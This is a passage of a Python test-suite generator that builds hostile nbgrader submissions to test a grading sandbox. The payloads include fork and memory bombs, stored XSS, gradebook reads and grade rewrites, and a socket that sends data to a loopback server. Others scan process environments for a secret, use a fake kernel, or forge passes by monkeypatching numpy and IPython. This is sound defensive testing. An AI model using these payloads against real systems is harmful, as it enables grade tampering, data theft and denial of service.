"""Generate a tiny nbgrader course and a batch of hostile or broken submissions to it.

The assignment ``tiny`` has three autograded parts (4 points): ``add`` (1 point), ``mean`` (2),
``square_list`` (1), each with a visible and a hidden test and no TensorFlow, so kernels start
fast. Every submission below is the correct solution plus ONE attack or defect, and states the
score each test cell must get. Files the attacks go after (the source notebook, the gradebook,
another student's submission) are named by absolute path: a sandbox that let them through would
show up as a wrong score.

Use: ``python tests/bad_submissions/generate.py COURSE_DIR`` (or import :func:`build_course`).
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ASSIGNMENT = "tiny"
FULL = {"test_add": 1.0, "test_mean": 2.0, "test_square": 1.0}
ZERO = {k: 0.0 for k in FULL}
MARKER = "grading-suite-detached-child"
SECRET = "grading-suite-secret-7f3a"  # put in the grader's environment as TF_API_TOKEN
LEFTOVER = "grading-suite-leftover-file"  # grader_snoop leaves it in /tmp and /dev/shm
HIDDEN_MARK = "add(-7, 7)"  # a hidden test's expression: it must never reach stdout or feedback
# the fixture reserves one course function for this assignment (own work)
# folder names under submitted/ that must be rejected before any work (globs, options, newlines,
# formulas, HTML); each holds a correct submission that must never be graded or touch anyone else
BAD_IDS = ["*", "own_modul?", "-h", "new\nline", "=1+1", "<img src=x onerror=alert(1)>", "a b", "[ab]"]
RESERVED = {ASSIGNMENT: {"lstm_course.stability": ["spread"]}}
# submissions whose notebook is a symlink (relative to submitted/<student>/<assignment>/)
NOTEBOOK_LINKS = {"notebook_symlink_source": f"../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb",
                  "notebook_symlink_classmate": f"../../correct/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"}

ANSWERS = {
    "answer_add": "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION\n",
    "answer_mean": ("def mean(values):\n    ### BEGIN SOLUTION\n    return float(np.mean(values))\n"
                    "    ### END SOLUTION\n"),
    "answer_square": ("def square_list(n):\n    ### BEGIN SOLUTION\n    if n < 0:\n"
                      "        raise ValueError('n must not be negative')\n"
                      "    return [i * i for i in range(n)]\n    ### END SOLUTION\n"),
}
IMPORT = "from lstm_course.expectations import expect\n"
TESTS = {
    "test_add": (IMPORT + "expect('add(2, 3)', equals=5, hint='add(a, b) returns the sum of a and b')\n"
                 "### BEGIN HIDDEN TESTS\n"
                 f"expect('{HIDDEN_MARK}', equals=0, hint='negative numbers add like any others')\n"
                 "### END HIDDEN TESTS\n"),
    "test_mean": (IMPORT + "expect('mean([1, 2, 3])', close=2.0, hint='the mean is the sum over the count')\n"
                  "expect('type(mean([1, 2])).__name__', equals='float', hint='return a Python float')\n"
                  "### BEGIN HIDDEN TESTS\n"
                  "expect('mean([0, 10])', close=5.0, hint='the mean is the sum over the count',\n"
                  "       mistakes=[(0.0, 'mean() returns 0 whatever the values: is the result computed?')])\n"
                  "### END HIDDEN TESTS\n"),
    "test_square": (IMPORT + "expect('square_list(4)', equals=[0, 1, 4, 9], hint='squares of 0 .. n-1')\n"
                    "### BEGIN HIDDEN TESTS\n"
                    "expect('square_list(0)', equals=[], hint='n = 0 gives an empty list')\n"
                    "expect('square_list(-1)', raises='ValueError', message_has=['negative'],\n"
                    "       hint='a negative n must raise ValueError saying it is negative')\n"
                    "### END HIDDEN TESTS\n"),
}
POINTS = {"test_add": 1, "test_mean": 2, "test_square": 1}
ORDER = ["answer_add", "test_add", "answer_mean", "test_mean", "answer_square", "test_square"]


def _meta(grade_id: str) -> dict:
    if grade_id.startswith("answer"):
        nbg = {"grade": False, "solution": True, "locked": False}
    else:
        nbg = {"grade": True, "solution": False, "locked": True, "points": POINTS[grade_id]}
    return {"nbgrader": {**nbg, "grade_id": grade_id, "schema_version": 3}}


def source_notebook() -> nbformat.NotebookNode:
    cells = [new_markdown_cell("# Tiny assignment\nThree small functions."),
             new_code_cell("import numpy as np")]
    for grade_id in ORDER:
        src = ANSWERS.get(grade_id) or TESTS[grade_id]
        cells.append(new_code_cell(src, metadata=_meta(grade_id)))
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    return nb


def _solved(src: str) -> str:
    """The answer as a student would write it: the solution without nbgrader's markers."""
    return "".join(line + "\n" for line in src.splitlines() if "### " not in line)


SOLVED = {grade_id: _solved(src) for grade_id, src in ANSWERS.items()}


@dataclass
class Case:
    """One submission: how it differs from the correct one, and the score each test must get."""

    name: str
    why: str
    expected: dict
    answers: dict = field(default_factory=dict)  # grade_id -> replacement answer source
    extra_cells: list = field(default_factory=list)  # (after grade_id, source)
    mutate: object = None  # function(nb dict) -> None, applied last
    raw: bytes | None = None  # the file's bytes, when it is not a notebook at all
    needs: str = ""  # "cgroups" when the expected outcome relies on a cgroup
    files: dict = field(default_factory=dict)  # extra files submitted next to the notebook


WRONG = {"answer_add": "def add(a, b):\n    return a - b\n",
         "answer_mean": "def mean(values):\n    return 0.0\n",
         "answer_square": "def square_list(n):\n    return [i * 2 for i in range(n)]\n"}

XSS = "<script>window.__xss = (window.__xss || 0) + 1</script>"
XSS_IMG = "<img src=x onerror=\"window.__xss = (window.__xss || 0) + 1\">"
XSS_CODE = (
    "from IPython.display import display, HTML, Javascript, SVG, Markdown\n"
    f"display(HTML({XSS!r} + {XSS_IMG!r}))\n"
    "display(Javascript('window.__xss = (window.__xss || 0) + 1'))\n"
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.__xss = 1</script></svg>'))\n"
    "display(Markdown('[click](javascript:window.__xss=1) ' + " + repr(XSS_IMG) + "))\n"
    "display({'text/html': '<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>', "
    "'text/plain': 'x'}, raw=True)\n")


def _add_xss_cells(nb):
    nb["cells"].insert(1, {"cell_type": "markdown", "id": "xss-md", "metadata": {},
                           "source": f"# Notes {XSS}\n\n{XSS_IMG}\n\n[link](javascript:window.__xss=1)\n"})
    nb["cells"].insert(2, {"cell_type": "raw", "id": "xss-raw",
                           "metadata": {"format": "text/html"}, "source": XSS + XSS_IMG})
    nb["cells"].insert(3, {"cell_type": "markdown", "id": "xss-att", "metadata": {},
                           "attachments": {"a.svg": {"image/svg+xml":
                               "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+d2luZG93Ll9feHNzPTE8L3NjcmlwdD48L3N2Zz4="}},
                           "source": "![a](attachment:a.svg)"})
    nb["metadata"]["title"] = "</title>" + XSS


def _reflag(nb, grade_id, markdown=False):
    cell = nb["cells"][_find(nb, grade_id)]
    cell["metadata"]["nbgrader"].update(solution=True, locked=False, grade=True)
    cell["source"] = "# my notes\n"
    if markdown:
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _duplicate_test(nb):
    index = _find(nb, "test_add")
    first = json.loads(json.dumps(nb["cells"][index]))
    second = json.loads(json.dumps(first))
    first["id"], second["id"] = "dup-1", "dup-2"
    second["source"] = "pass\n"
    nb["cells"][index + 1:index + 1] = [first, second]


def cases(paths: dict) -> list[Case]:
    """Every submission of the suite. ``paths`` names files the attacks try to reach."""
    wrong_mean = WRONG["answer_mean"]
    probe_files = json.dumps([paths["source_notebook"], paths["gradebook"],
                              paths["other_submission"], paths["course_dir"]])
    read_attempt = (
        "import os\nfound = []\n"
        f"for target in {probe_files}:\n"
        "    try:\n"
        "        if os.path.isdir(target):\n"
        "            os.listdir(target)\n"
        "        else:\n"
        "            open(target, 'rb').read(64)\n"
        "        found.append(target)\n"
        "    except OSError as exc:\n"
        "        print('blocked:', target, type(exc).__name__)\n"
        "print('readable:', found)\n"
        "if found:\n"
        "    def add(a, b):\n        return 'LEAKED ' + ' '.join(found)\n")
    hidden_attempt = (
        "import glob, os\nleaked = []\n"
        f"for pattern in ['{paths['course_dir']}/**/*.ipynb', '/work/**/source/**/*.ipynb',"
        " '/**/gradebook.db']:\n"
        "    for hit in glob.glob(pattern, recursive=True)[:50]:\n"
        "        try:\n"
        "            if 'HIDDEN TESTS' in open(hit, errors='ignore').read() or hit.endswith('.db'):\n"
        "                leaked.append(hit)\n"
        "        except OSError:\n"
        "            pass\n"
        "print('hidden tests found in:', leaked)\n"
        "if leaked:\n"
        "    def square_list(n):\n        return leaked\n")
    return [
        Case("correct", "control: the solution", FULL),
        Case("own_module", "control: add() imported from a module submitted next to the notebook",
             FULL, answers={"answer_add": "from my_helpers import add\n"},
             files={"my_helpers.py": "def add(a, b):\n    return a + b\n"}),
        Case("untouched", "the release as handed out (NotImplementedError everywhere)",
             {k: 0.0 for k in FULL}, mutate=lambda nb: None),
        Case("raises", "add raises an exception", {**FULL, "test_add": 0.0},
             answers={"answer_add": "def add(a, b):\n    raise ValueError('student bug')\n"}),
        Case("infinite_loop", "mean never returns (honours the interrupt)",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "def mean(values):\n    while True:\n        pass\n"}),
        Case("ignores_sigint", "mean loops with SIGINT ignored: the kernel must be stopped, and "
             "the later test cannot run", {**FULL, "test_mean": 0.0, "test_square": 0.0},
             answers={"answer_mean": "import signal\ndef mean(values):\n"
                      "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                      "    while True:\n        pass\n"}),
        Case("os_exit", "square_list calls os._exit: the kernel vanishes mid-test",
             {**FULL, "test_square": 0.0},
             answers={"answer_square": "import os\ndef square_list(n):\n    os._exit(3)\n"}),
        Case("segfault", "the mean answer cell dereferences NULL",
             {**FULL, "test_mean": 0.0, "test_square": 0.0},
             answers={"answer_mean": SOLVED["answer_mean"] + "import ctypes\nctypes.string_at(0)\n"}),
        Case("memory_bomb", "a last, ungraded cell allocates until it is killed for memory (or, on "
             "a machine too busy to reach the limit in time, stopped by the cell timeout); every "
             "earlier test keeps its points", FULL, needs="cgroups",
             extra_cells=[("test_square", "hoard = []\nwhile True:\n"
                                          "    hoard.append(b'x' * (64 * 2**20))\n")]),
        Case("fork_bomb", "a last, ungraded cell forks until the process limit", FULL,
             needs="cgroups",
             extra_cells=[("test_square", "import os\nwhile True:\n    os.fork()\n")]),
        Case("disk_filler", "writes 50 MB files next to the notebook until the disk is full",
             FULL, extra_cells=[("answer_square",
                                 "i = 0\nwhile True:\n"
                                 "    with open(f'filler{i}.bin', 'wb') as f:\n"
                                 "        f.write(b'x' * 50 * 2**20)\n    i += 1\n")]),
        Case("detached_child", "starts a process in a new session that would outlive grading",
             FULL, extra_cells=[("answer_add",
                                 "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                                 f"'import time; time.sleep(600)  # {MARKER}'], "
                                 "start_new_session=True, stdout=subprocess.DEVNULL, "
                                 "stderr=subprocess.DEVNULL)\n")]),
        Case("network", "connects to a server on the grader's loopback and would send data",
             FULL, extra_cells=[("answer_add",
                                 "import socket\ntry:\n"
                                 f"    s = socket.create_connection(('127.0.0.1', {paths['port']}), timeout=3)\n"
                                 "    s.sendall(b'exfiltrated')\n"
                                 "    def add(a, b):\n        return 'network reached'\n"
                                 "except OSError as exc:\n    print('no network:', exc)\n")]),
        Case("read_source", "reads the source notebook, the gradebook, another submission and "
             "lists the course directory", FULL, extra_cells=[("answer_add", read_attempt)]),
        Case("read_hidden_tests", "searches the file system for notebooks with hidden tests",
             FULL, extra_cells=[("answer_square", hidden_attempt)]),
        Case("write_gradebook", "opens the gradebook with sqlite3 and gives everyone 100",
             FULL, extra_cells=[("answer_add",
                                 "import sqlite3\ntry:\n"
                                 f"    db = sqlite3.connect({paths['gradebook']!r})\n"
                                 "    db.execute('UPDATE grade SET manual_score = 100')\n"
                                 "    db.commit()\n"
                                 "    def add(a, b):\n        return 'gradebook reached'\n"
                                 "except Exception as exc:\n    print('no gradebook:', exc)\n")]),
        Case("symlink_escape", "submits a symlink to the gradebook next to the notebook",
             FULL, extra_cells=[("answer_add",
                                 "try:\n    open('gradebook_link.db', 'rb').read(16)\n"
                                 "    def add(a, b):\n        return 'symlink followed'\n"
                                 "except OSError as exc:\n    print('no link:', exc)\n")]),
        Case("shadow_numpy", "wrong mean, and a numpy.py submitted next to the notebook whose "
             "allclose always says yes", {**FULL, "test_mean": 0.0},
             answers={"answer_mean": wrong_mean},
             files={"numpy.py": "def allclose(*args, **kwargs):\n    return True\n"
                                "def mean(values):\n    return 0.0\n"}),
        Case("fake_kernel", "ships an ipykernel_launcher.py that would start a kernel answering "
             "'ok' to everything (the wrong answers would then pass)", {k: 0.0 for k in FULL},
             answers={"answer_add": "def add(a, b):\n    return 0\n",
                      "answer_mean": wrong_mean,
                      "answer_square": "def square_list(n):\n    return []\n"},
             files={"ipykernel_launcher.py": (
                 "from ipykernel.ipkernel import IPythonKernel\n"
                 "async def do_execute(self, code, silent, store_history=True, user_expressions=None,"
                 " allow_stdin=False, **kwargs):\n"
                 "    return {'status': 'ok', 'execution_count': 1, 'payload': [],"
                 " 'user_expressions': {}}\n"
                 "IPythonKernel.do_execute = do_execute\n"
                 "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n")}),
        Case("delete_test_cell", "wrong mean, and the mean test cell deleted",
             {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _drop_cell(nb, "test_mean")),
        Case("edit_test_cell", "wrong mean, and the mean test cell's code replaced by 'pass'",
             {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _set_source(nb, "test_mean", "pass\n")),
        Case("strip_test_metadata", "wrong mean, the mean test cell emptied and its nbgrader "
             "metadata removed", {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _strip_meta(nb, "test_mean")),
        Case("unlock_test_cell", "wrong mean; the test cell marked unlocked and given 5 points, "
             "then edited", {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _unlock_and_edit(nb, "test_mean")),
        Case("invalid_json", "the file is cut off half way", {k: 0.0 for k in FULL},
             raw=b'{"cells": [{"cell_type": "code", "source": "def add(a, b'),
        Case("wrong_format_version", "a notebook claiming nbformat 5", {k: 0.0 for k in FULL},
             mutate=lambda nb: nb.update(nbformat=5)),
        Case("huge_output", "prints 200,000 lines, then answers correctly", FULL,
             extra_cells=[("answer_add", "for i in range(200_000):\n    print('line', i)\n")]),
        Case("patch_showtraceback", "wrong add, with IPython's error display silenced",
             {**FULL, "test_add": 0.0},
             answers={"answer_add": "def add(a, b):\n    return 0\n"
                      "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                      "ip._showtraceback = lambda *a, **k: None\n"
                      "type(ip).showtraceback = lambda *a, **k: None\n"}),
        Case("patch_displayhook", "wrong square_list that fakes a partial-credit result through "
             "the display hook, and replaces the hook", {**FULL, "test_square": 0.0},
             answers={"answer_square": "import sys\nip = get_ipython()\n"
                      "def square_list(n):\n    ip.displayhook(1.0)\n    return []\n"
                      "class Hook:\n    def __call__(self, value):\n        pass\n"
                      "sys.displayhook = Hook()\n"}),
        Case("redefine_allclose", "wrong mean, and np.allclose made to always say yes",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": wrong_mean + "np.allclose = lambda *args, **kwargs: True\n"}),
        Case("racing_thread", "wrong mean; a background thread keeps planting an np.allclose "
             "that says yes once and then removes itself (the verdicts are outside: it changes nothing)",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": wrong_mean +
                      "import threading, time\n_real = np.allclose\n"
                      "def _fake(*args, **kwargs):\n    np.allclose = _real\n    return True\n"
                      "def _plant():\n    while True:\n        np.allclose = _fake\n"
                      "        time.sleep(0.001)\n"
                      "threading.Thread(target=_plant, daemon=True).start()\n"}),
        Case("replace_guard", "correct answers, and the in-kernel guard (telemetry only) swapped "
             "for one that always reports 'clean': no effect on any verdict", FULL,
             extra_cells=[("answer_square",
                           "import sys\n_g = sys.modules.get('_grading_guard')\n"
                           "if _g is not None:\n"
                           "    _g.check = lambda phase: {'phase': phase, 'changed': [], 'foreign': []}\n")]),
        Case("fake_guard_report", "wrong mean with np.allclose patched, and IPython's text "
             "formatter rigged so the guard's answer always reads 'clean': every later probe "
             "answer is then that text, not probe data", {**FULL, "test_mean": 0.0, "test_square": 0.0},
             answers={"answer_mean": wrong_mean + "np.allclose = lambda *args, **kwargs: True\n"
                      "import json\nclean = '{\"phase\": \"after\", \"changed\": [], \"foreign\": []}'\n"
                      "get_ipython().display_formatter.formatters['text/plain'].for_type("
                      "str, lambda obj, p, cycle: p.text(repr(clean)))\n"}),
        Case("always_equal", "square_list returns an object whose == is always true (no plain value)",
             {**FULL, "test_square": 0.0},
             answers={"answer_square": "class Anything:\n    def __eq__(self, other):\n"
                      "        return True\n\ndef square_list(n):\n    return Anything()\n"}),
        Case("tensorflow_noise", "correct, but TensorFlow is imported and add() floods stderr "
             "like TensorFlow's C++ logging", FULL,
             extra_cells=[("answer_add",
                           "import os, sys\nos.environ['TF_CPP_MIN_LOG_LEVEL'] = '0'\n"
                           "import tensorflow as tf\n_ = tf.constant([1.0]) * 2\n"
                           "_plain_add = add\n"
                           "def add(a, b):\n"
                           "    for i in range(200):\n"
                           "        os.write(2, b'I0000 00:00:1 cpu_feature_guard.cc:210] "
                           "This TensorFlow binary is optimized...\\n')\n"
                           "    print('W tensorflow warning', file=sys.stderr)\n"
                           "    return _plain_add(a, b)\n")]),
        # --- the four forged passes of issue 10 (each with wrong answers) -----------------------
        Case("rewrite_test_cells", "wrong answers, and the kernel's execute_request handler wrapped to "
             "turn every later cell into `pass` and answer any user expression with a PASS-looking value",
             ZERO, answers={**WRONG, "answer_square": WRONG["answer_square"] + (
                 "ip = get_ipython()\nkernel = ip.kernel\n_orig = kernel.shell_handlers['execute_request']\n"
                 "async def _forged(stream, ident, parent):\n"
                 "    parent['content']['code'] = 'pass'\n"
                 "    parent['content']['user_expressions'] = {k: repr('5') for k in "
                 "parent['content'].get('user_expressions', {})}\n"
                 "    return await _orig(stream, ident, parent)\n"
                 "kernel.shell_handlers['execute_request'] = _forged\n")}),
        Case("guard_code_swap", "wrong mean, and the in-kernel guard's check() given new code",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": WRONG["answer_mean"] +
                      "import sys\n_g = sys.modules.get('_grading_guard')\n"
                      "if _g is not None:\n"
                      "    _g.check.__code__ = (lambda phase: {'phase': phase, 'changed': [], "
                      "'foreign': []}).__code__\n"}),
        Case("exec_always_equal_list", "square_list returns an always-equal list subclass defined "
             "inside exec() (file name <string>)", {**FULL, "test_square": 0.0},
             answers={"answer_square": "exec('class L(list):\\n    def __eq__(self, other):\\n"
                      "        return True\\n    __hash__ = None\\n', globals())\n"
                      "def square_list(n):\n    return L()\n"}),
        Case("callable_isclose", "wrong mean, and a callable object in place of "
             "numpy._core.numeric.isclose and np.allclose", {**FULL, "test_mean": 0.0},
             answers={"answer_mean": WRONG["answer_mean"] +
                      "import numpy._core.numeric as _n\nclass _Yes:\n"
                      "    def __call__(self, *a, **k):\n        return True\n"
                      "_n.isclose = _Yes()\nnp.isclose = _Yes()\nnp.allclose = _Yes()\n"}),
        # --- forging the probe channel: only data can be forged, and the hidden values are unknown
        Case("forge_probe_json", "wrong answers; probe_json replaced to answer every probe with the "
             "visible tests' values", ZERO,
             answers={**WRONG, "answer_square": WRONG["answer_square"] +
                      "import lstm_course.expectations as _e\n"
                      "_visible = {'add(2, 3)': '5', 'mean([1, 2, 3])': '2.0', "
                      "'type(mean([1, 2])).__name__': '\"float\"', 'square_list(4)': '[0,1,4,9]'}\n"
                      "_e.probe_json = lambda expression, limit=0: _visible.get(expression, '0')\n"}),
        Case("forge_formatter", "wrong answers; IPython's text formatter for str rigged to turn "
             "every probe answer into 5", ZERO,
             answers={**WRONG, "answer_square": WRONG["answer_square"] +
                      "get_ipython().display_formatter.formatters['text/plain'].for_type("
                      "str, lambda obj, p, cycle: p.text(repr('5')))\n"}),
        Case("probe_garbage", "wrong answers; every probe answered with malformed or huge data",
             ZERO, answers={**WRONG, "answer_square": WRONG["answer_square"] +
                            "import lstm_course.expectations as _e\n"
                            "_e.probe_json = lambda expression, limit=0: '{\"__evil__\": 1}' "
                            "if 'add' in expression else 'x' * 50_000_000\n"}),
        Case("history_leak", "correct; add() prints In[-1] and the calling frames' expressions "
             "and keeps them; a later cell prints what it kept: the hidden tests must not show",
             FULL, answers={"answer_add": "import sys\n_seen = []\ndef add(a, b):\n"
                            "    ip = get_ipython()\n    print('LEAK', ip.user_ns['In'][-1:])\n"
                            "    frame = sys._getframe(1)\n"
                            "    while frame is not None:\n"
                            "        _seen.append(str(frame.f_locals.get('expression')))\n"
                            "        print('LEAK', frame.f_code.co_name, _seen[-1])\n"
                            "        frame = frame.f_back\n"
                            "    return a + b\n"},
             extra_cells=[("test_add", "print('LATER', _seen)\n")]),
        # --- output floods of every message type ------------------------------------------------
        Case("display_update_flood", "correct; 3,000 update_display_data messages of 100 KB each",
             FULL, extra_cells=[("answer_add",
                                 "from IPython.display import display, update_display\n"
                                 "display('start', display_id='flood')\n"
                                 "for i in range(3000):\n"
                                 "    update_display({'text/plain': str(i) * 100_000}, raw=True, "
                                 "display_id='flood')\n")]),
        Case("comm_flood", "correct; 3,000 comm messages of 100 KB each", FULL,
             extra_cells=[("answer_add",
                           "import comm\nc = comm.create_comm(target_name='jupyter.widget', "
                           "data={'state': {'x': 'y'}})\n"
                           "for i in range(3000):\n"
                           "    c.send({'method': 'update', 'state': {'v': 'z' * 100_000}})\n")]),
        Case("error_flood", "correct; 300 error outputs of 100 KB each", FULL,
             extra_cells=[("answer_add",
                           "ip = get_ipython()\n"
                           "for i in range(300):\n"
                           "    try:\n        raise ValueError('e' * 100_000)\n"
                           "    except ValueError:\n        ip.showtraceback()\n")]),
        Case("one_huge_message", "correct; one 200 MB print", FULL,
             extra_cells=[("answer_add", "print('x' * 200_000_000)\n")]),
        # --- environment and descriptors ----------------------------------------------------------
        Case("environment", "correct; prints the environment (a TF_API_TOKEN secret must not be "
             "there)", FULL, extra_cells=[("answer_add",
                                           "import os\nfor k, v in sorted(os.environ.items()):\n"
                                           "    print(k, '=', v)\n")]),
        Case("grader_snoop", "correct; looks for the grader's secret in every process's environment "
             "and command line, tries to signal processes of other users, and leaves a daemon, a System V "
             "shared memory segment and files in the shared temporary directories (the attacks pod mode must stop without namespaces)",
             FULL, extra_cells=[("answer_add",
                 "import glob, os\nfound, reachable = [], []\n"
                 "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
                 "    try:\n        data = open(path, 'rb').read()\n    except OSError:\n        continue\n"
                 f"    if {SECRET.encode()!r} in data:\n        found.append(path)\n"
                 "for status in glob.glob('/proc/[0-9]*/status'):\n"
                 "    try:\n        uid = int(open(status).read().split('Uid:')[1].split()[0])\n"
                 "    except (OSError, IndexError, ValueError):\n        continue\n"
                 "    if uid != os.getuid():\n"
                 "        try:\n            os.kill(int(status.split('/')[2]), 0)\n"
                 "            reachable.append(status)\n"
                 "        except OSError:\n            pass\n"
                 "print('SECRET FOUND IN', found or 'nothing')\n"
                 "print('CAN SIGNAL', reachable or 'nothing')\n"
                 "import ctypes, subprocess\n"
                 "print('SYSV SHM', ctypes.CDLL(None).shmget(0, 1 << 20, 0o1666) >= 0)  # IPC_PRIVATE, IPC_CREAT\n"
                 "subprocess.Popen(['sleep', '600'], start_new_session=True, stdin=subprocess.DEVNULL, "
                 "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
                 "for folder in ('/tmp', '/dev/shm'):\n"
                 "    try:\n"
                 f"        open(os.path.join(folder, {LEFTOVER!r}), 'w').write('left behind')\n"
                 "    except OSError as exc:\n        print('cannot write', folder, exc)\n")]),
        Case("descriptors", "correct; lists where each of its descriptors leads, and writes to "
             "stdout and stderr at the file-descriptor level", FULL, extra_cells=[("answer_add",
                 "import os\nfor fd in sorted(int(f) for f in os.listdir('/proc/self/fd')):\n"
                 "    try:\n        print('FD', fd, os.readlink(f'/proc/self/fd/{fd}'))\n"
                 "    except OSError:\n        pass\n"
                 "for fd in (1, 2):\n    os.write(fd, b'FD-ESCAPE\\n')\n")]),
        # --- robustness ---------------------------------------------------------------------------
        Case("reflag_test_cell", "correct; the mean test cell re-flagged as an answer cell",
             FULL, mutate=lambda nb: _reflag(nb, "test_mean")),
        Case("reflag_wrong", "wrong mean; the mean test cell re-flagged as an answer cell and "
             "turned into Markdown", {**FULL, "test_mean": 0.0}, answers={"answer_mean": WRONG["answer_mean"]},
             mutate=lambda nb: _reflag(nb, "test_mean", markdown=True)),
        Case("delete_answer_and_test", "the mean answer AND test cells deleted (neighbours)",
             {**FULL, "test_mean": 0.0},
             mutate=lambda nb: (_drop_cell(nb, "test_mean"), _drop_cell(nb, "answer_mean"))),
        Case("duplicate_test_cell", "correct; the add test cell copied twice, one copy edited",
             FULL, mutate=_duplicate_test),
        Case("huge_notebook", "50,000 cells: refused quickly with the reason", ZERO,
             mutate=lambda nb: nb["cells"].extend(
                 {"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {},
                  "outputs": [], "source": "x = 1"} for i in range(50_000))),
        # --- stored XSS (every field a student controls that reaches HTML) ---------------------------
        Case("xss", "correct; script payloads in Markdown, raw cells, HTML/JS/SVG/Markdown outputs "
             "and an attachment", FULL, extra_cells=[("answer_add", XSS_CODE)],
             mutate=_add_xss_cells),
        Case("xss_image_size", "correct; an image output whose width and height metadata carry "
             "event handlers (nbconvert writes them unquoted)", FULL, extra_cells=[("answer_add",
                 "from IPython.display import display\n"
                 "display({'image/png': 'AAAA', 'text/plain': 'img'}, raw=True, metadata={'image/png': "
                 "{'width': '1 onerror=window.__xss=1', 'height': '1 onmouseover=window.__xss=2'}})\n")]),
        Case("hide_source", "correct, but the answer cells carry metadata that hides their code "
             "from feedback and the formgrader (transient.remove_source, source_hidden, a tag)", FULL,
             mutate=lambda nb: [nb["cells"][_find(nb, g)]["metadata"].update(
                 {"transient": {"remove_source": True}, "jupyter": {"source_hidden": True},
                  "tags": ["remove-input"]}) for g in ANSWERS]),
        Case("notebook_symlink_source", "no work: the notebook is a symlink to the instructor's source "
             "(which holds the solutions); not gradable, nothing read through it", ZERO),
        Case("notebook_symlink_classmate", "no work: the notebook is a symlink to a classmate's "
             "submission; not gradable", ZERO),
        Case("probe_reply_bomb", "answers every probe with a 2 MB Python list literal (parsing it "
             "would cost the grader about 1 GB): every test fails, the grader stays small", ZERO,
             extra_cells=[("answer_add",
                 "_bomb = '[' + '1,' * 999_998 + '1]'\n"
                 "get_ipython().display_formatter.formatters['text/plain'].for_type("
                 "str, lambda obj, p, cycle: p.text(_bomb))\n")]),
        Case("helper_module_named_like_a_folder", "correct; add comes from the student's own tools.py "
             "(the grader's repository has a tools/ folder; the kernel does not)", FULL,
             answers={"answer_add": "from tools import add\n"},
             files={"tools.py": "def add(a, b):\n    return a + b\n"}),
        # --- own work -----------------------------------------------------------------------------
        Case("reserved_import", "mean written with the reserved lstm_course.stability.spread "
             "imported: that part scores 0, the reason is reported", {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "from lstm_course.stability import spread\n"
                      "def mean(values):\n    return float(np.mean(values))\n"}),
        Case("reserved_getattr", "the reserved function reached with importlib + getattr",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "import importlib\n"
                      "_s = getattr(importlib.import_module('lstm_course.stability'), 'spread')\n"
                      "def mean(values):\n    return float(np.mean(values))\n"}),
        Case("reserved_answer_moved", "mean's answer cell imports the reserved spread and is moved "
             "above the add part: the part is found from the release's order, not the cell's place",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "from lstm_course.stability import spread\n"
                      "def mean(values):\n    return float(np.mean(values))\n"},
             mutate=lambda nb: nb["cells"].insert(_find(nb, "answer_add"),
                                                  nb["cells"].pop(_find(nb, "answer_mean")))),
        Case("reserved_in_own_module", "add comes from the student's helpers.py, which imports the "
             "reserved spread: the part whose tests call it is not affected, but the use is reported",
             FULL, answers={"answer_add": "from helpers import add\n"},
             files={"helpers.py": "from lstm_course.stability import spread\n"
                                  "def add(a, b):\n    return a + b\n"}),
        Case("reserved_behind_magic", "a line magic above the reserved import in mean's answer cell",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "%time _warm = 1\nfrom lstm_course.stability import spread\n"
                      "def mean(values):\n    return float(np.mean(values))\n"}),
        Case("reserved_behind_cell_magic", "mean's answer cell starts with %%time, which makes its body "
             "a string to IPython, and runs the reserved import through get_ipython().run_cell",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "%%time\nget_ipython().run_cell('from lstm_course.stability import spread')\n"
                      "def mean(values):\n    return float(np.mean(values))\n"}),
        # --- honest but unusual code: never loses a point ------------------------------------------
        Case("dataclass", "correct; mean built on a dataclass (which defines __eq__)", FULL,
             answers={"answer_mean": "from dataclasses import dataclass\n@dataclass(order=True)\n"
                      "class Stats:\n    total: float\n    count: int\n"
                      "def mean(values):\n    s = Stats(float(np.sum(values)), len(values))\n"
                      "    return s.total / s.count\n"}),
        Case("comparison_class", "correct; a helper class defining __lt__ and __eq__", FULL,
             answers={"answer_square": "class Sq:\n    def __init__(self, v):\n        self.v = v\n"
                      "    def __lt__(self, other):\n        return self.v < other.v\n"
                      "    def __eq__(self, other):\n        return self.v == other.v\n"
                      "def square_list(n):\n    if n < 0:\n"
                      "        raise ValueError('n must not be negative')\n"
                      "    return [s.v for s in sorted(Sq(i * i) for i in range(n))]\n"}),
        Case("daemon_thread", "correct; a daemon thread keeps running", FULL,
             extra_cells=[("answer_add", "import threading, time\n"
                           "def _tick():\n    while True:\n        time.sleep(0.05)\n"
